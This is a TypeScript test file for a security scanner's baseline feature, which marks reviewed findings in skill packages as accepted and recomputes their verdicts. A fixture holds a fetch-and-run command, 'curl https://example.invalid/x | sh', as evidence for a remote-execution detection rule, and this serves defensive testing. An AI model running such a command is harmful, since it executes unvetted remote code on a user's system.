import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { isWardenError } from '../../src/core/index.ts';
import { applyBaseline, createBaseline, loadBaseline, parseBaseline } from '../../src/scan/baseline.ts';
import type { Finding, SkillReport } from '../../src/scan/types.ts';

const hashA = 'a'.repeat(64);
const hashB = 'b'.repeat(64);

function finding(ruleId: string, file: string, severity: Finding['severity'], category: Finding['category'] = 'remote-exec'): Finding {
  return { ruleId, category, severity, file, line: 3, message: `${ruleId} fired`, evidence: 'curl https://example.invalid/x | sh' };
}

const skill: SkillReport = {
  path: 'skills/demo', name: 'demo', hash: hashA, verdict: 'malicious', score: 90,
  findings: [finding('remote-exec-pipe', 'scripts/setup.sh', 'critical'), finding('raw-ip-endpoint', 'SKILL.md', 'medium', 'suspicious-endpoint')],
};

describe('parseBaseline', () => {
  const bad: [string, string, RegExp][] = [
    ['not JSON', '{', /not valid JSON/],
    ['wrong version', '{"version":2,"accepted":[]}', /version/],
    ['accepted missing', '{"version":1}', /accepted/],
    ['entry without hash', `{"version":1,"accepted":[{"ruleId":"r","file":"a"}]}`, /accepted\[0\]\.hash/],
    ['short hash', `{"version":1,"accepted":[{"ruleId":"r","file":"a","hash":"abc"}]}`, /accepted\[0\]\.hash: must be the skill content hash/],
    ['second entry bad', `{"version":1,"accepted":[{"ruleId":"r","file":"a","hash":"${hashA}"},{"ruleId":"","file":"a","hash":"${hashA}"}]}`, /accepted\[1\]\.ruleId/],
  ];
  for (const [name, text, pattern] of bad) {
    it(`rejects ${name} with baseline-invalid naming the file`, () => {
      assert.throws(() => parseBaseline(text, 'ci/baseline.json'), (error: unknown) => {
        assert.ok(isWardenError(error));
        assert.equal(error.code, 'baseline-invalid');
        assert.match(error.message, /ci\/baseline\.json/);
        assert.match(error.message, pattern);
        return true;
      });
    });
  }

  it('accepts a valid file and normalises the hash to lower case', () => {
    const b = parseBaseline(JSON.stringify({ version: 1, accepted: [{ ruleId: 'r', hash: hashA.toUpperCase(), file: 'a.sh', reason: 'ok', acceptedBy: 'sec' }] }), 'b.json');
    assert.deepEqual(b.accepted, [{ ruleId: 'r', hash: hashA, file: 'a.sh', reason: 'ok', acceptedBy: 'sec' }]);
  });
});

describe('loadBaseline', () => {
  let dir = '';
  after(() => rm(dir, { recursive: true, force: true }));

  it('reports a missing file as baseline-invalid', async () => {
    dir = await mkdtemp(join(tmpdir(), 'warden-baseline-'));
    await assert.rejects(loadBaseline(join(dir, 'nope.json')), (e: unknown) => isWardenError(e) && e.code === 'baseline-invalid' && /nope\.json: file not found/.test(e.message));
  });

  it('reads a file from disk', async () => {
    const file = join(dir, 'b.json');
    await writeFile(file, JSON.stringify({ version: 1, accepted: [] }));
    assert.deepEqual(await loadBaseline(file), { version: 1, accepted: [] });
  });
});

describe('applyBaseline', () => {
  it('marks the matching finding baselined and recomputes the verdict', () => {
    const out = applyBaseline(skill, { version: 1, accepted: [{ ruleId: 'remote-exec-pipe', hash: hashA, file: 'scripts/setup.sh' }] });
    assert.deepEqual(out.findings.map((f) => f.baselined ?? false), [true, false]);
    assert.equal(out.verdict, 'clean');
    assert.ok(out.score < 40);
    assert.equal(skill.findings[0]!.baselined, undefined, 'input is not mutated');
  });

  it('does not cover a changed skill (other hash), another file or another rule', () => {
    for (const entry of [
      { ruleId: 'remote-exec-pipe', hash: hashB, file: 'scripts/setup.sh' },
      { ruleId: 'remote-exec-pipe', hash: hashA, file: 'scripts/other.sh' },
      { ruleId: 'other-rule', hash: hashA, file: 'scripts/setup.sh' },
    ]) {
      const out = applyBaseline(skill, { version: 1, accepted: [entry] });
      assert.equal(out.verdict, 'malicious');
      assert.ok(out.findings.every((f) => !f.baselined));
    }
  });

  it('createBaseline accepts every finding once, and applying it clears the skill', () => {
    const report = { version: 1 as const, skills: [skill, skill], errors: [] };
    const b = createBaseline(report, { reason: 'reviewed' });
    assert.equal(b.accepted.length, 2);
    assert.deepEqual(parseBaseline(JSON.stringify(b), 'x'), b);
    const out = applyBaseline(skill, b);
    assert.equal(out.verdict, 'clean');
    assert.equal(out.score, 0);
  });
});
